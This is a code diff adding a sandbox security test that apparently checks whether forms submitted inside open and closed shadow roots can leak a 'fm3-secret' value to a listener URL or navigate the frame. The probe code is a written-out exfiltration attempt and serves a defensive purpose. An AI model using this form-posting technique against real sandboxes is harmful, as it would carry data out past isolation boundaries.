@@ -94,4 +94,52 @@ export const forms: Row[] = [
       await launcherIntact(t);
     },
   },
+  {
+    id: 'FM3',
+    group: 'forms',
+    attempt:
+      "forms the window never hears: inside an open and a closed shadow root (`submit` is not composed, so it stops at the root), posting to the listener and to the frame's own URL, by requestSubmit() and a button click; then use the port",
+    outcome:
+      'each submit event fires in its root and goes nowhere: no request, the frame keeps its page and its port (storage answers), no "left its page"',
+    apps: {
+      main: (env) =>
+        probeApp(`
+  let submits = 0;
+  const roots = ['open', 'closed'].map((mode) => {
+    const host = document.createElement('div');
+    document.body.append(host);
+    return host.attachShadow({ mode });
+  });
+  const targets = ['${env.listener}/fm3-post', location.origin + '/?d=fm3-secret'];
+  for (const root of roots)
+    for (const action of targets) {
+      const form = document.createElement('form');
+      form.action = action;
+      form.method = 'post';
+      form.innerHTML = '<input name="d" value="fm3-secret"><button>send</button>';
+      form.addEventListener('submit', () => submits++);
+      root.append(form);
+      form.requestSubmit();
+      await wait(200);
+      form.querySelector('button').click();
+      await wait(200);
+    }
+  await wait(500);
+  out.submits = submits;
+  out.port = await attempt(async () => { await sdk.storage.set('fm3', 'kept'); return sdk.storage.get('fm3'); });
+`),
+    },
+    async check(t) {
+      const p = await openAndProbe(t);
+      expect(p.submits).toBe(8);
+      expect(at(p, 'port')).toEqual({ ok: true, value: 'kept' });
+      await noLeaks(t);
+      expect(
+        t.frameRequests().filter((u) => u.includes('fm3')),
+        'frame site requests',
+      ).toEqual([]);
+      await launcherIntact(t);
+      await expect(t.frame().locator('pre[data-probe]')).toBeVisible();
+    },
+  },
 ];
